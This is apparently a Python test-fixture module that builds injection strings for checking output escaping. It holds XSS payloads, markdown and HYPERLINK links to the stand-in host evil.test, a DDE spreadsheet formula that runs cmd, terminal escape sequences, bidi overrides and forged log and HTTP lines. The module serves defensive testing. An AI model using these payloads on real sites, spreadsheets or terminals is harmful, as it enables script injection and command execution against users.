"""Strings that try to be more than text: markup, markdown, formulas, steering, bidi, forged lines."""

import itertools
from collections.abc import Iterator

SCRIPTS = (
    "<script>{}</script>", "<img src=x onerror={}>", "<svg/onload={}>", '"><script>{}</script>', "javascript:{}",
    "<iframe srcdoc='<script>{}</script>'>", "</title><script>{}</script>", "<a href=javascript:{}>x</a>", "{{{{{}}}}}",
    "${{{}}}", "<style>@import '{}'</style>", "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<!--><script>{}</script>", "data:text/html,<script>{}</script>", "<body onload={}>", "<details open ontoggle={}>",
)  # fmt: skip
MARKDOWN = (
    "![x](http://evil.test/{})",
    "[x](javascript:{})",
    "<http://evil.test/{}>",
    "[x]: http://evil.test/{}",
    "```html\n{}\n```",
)
FORMULAS = ("={}", "+{}", "-{}", "@{}", "\t={}", '=HYPERLINK("http://evil.test","{}")', "=cmd|' /C {}'!A0")
ANSI = (
    "\x1b[31m{}\x1b[0m",
    "\x1b]8;;http://evil.test\x07{}\x1b]8;;\x07",
    "\x1b[2J{}",
    "\x9b31m{}",
    "\x1b]0;{}\x07",
    "\r{}",
    "\x08{}",
)
BIDI = ("\u202e{}", "\u2066{}\u2069", "\u2069\u202e{}", "\u200f{}", "\ufeff{}", "\u061c{}")
LINES = (
    "x\n2026-01-01 ERROR root: {}",
    "x\r\nHTTP/1.1 200 OK\r\n\r\n{}",
    "x\u2028{}",
    "x\x0b{}",
    "x\x85{}",
    "x\x00{}",
    "\ud800{}",
)
MARK = "hurt"
"""What a script that runs leaves on a page's `window`."""
WORDS = (
    "alert(1)",
    f"window.{MARK}=1",
    "fetch('//evil.test')",
    "1+1",
    "a" * 40,
    "\u212a\u017f",
    "%0d%0a",
    "%3Cscript%3E",
    "\\u003cscript\\u003e",
    "'; --",
    "../..",
)
LEAK = "\u2069\u202e\x85\u202e"
"""Leaves what a text is drawn in, by closing it and by beginning a paragraph, and turns round all that follows."""
STEERING = "\x1b\x9b\x07\x08\r\x0b\x85\x00\u202e\u2066\u200f\ufeff\u061c\u2028\ud800"
KINDS = (*SCRIPTS, *MARKDOWN, *FORMULAS, *ANSI, *BIDI, *LINES)
ENDS = ("", "\u202c", " ")
STRINGS = tuple(f"{kind.format(word)}{end}" for word, end, kind in itertools.product(WORDS, ENDS, KINDS))
"""Kind after kind, so that wherever a few are used, most kinds are."""


class Supply:
    """Gives one string after the other, and begins again where all were given."""

    def __init__(self, strings: tuple[str, ...] = STRINGS) -> None:
        self._strings = itertools.cycle(strings)
        self.given: set[str] = set()

    def __iter__(self) -> Iterator[str]:
        return self

    def __next__(self) -> str:
        self.given.add(found := next(self._strings))
        return found


def is_storable(text: str) -> bool:
    """Whether UTF-8 can hold it; what cannot be held is refused or rejected wherever it comes in."""
    return "\ud800" not in text


def is_drawable(text: str) -> bool:
    """Whether a row of data may hold it; one with NUL is rejected."""
    return is_storable(text) and "\x00" not in text
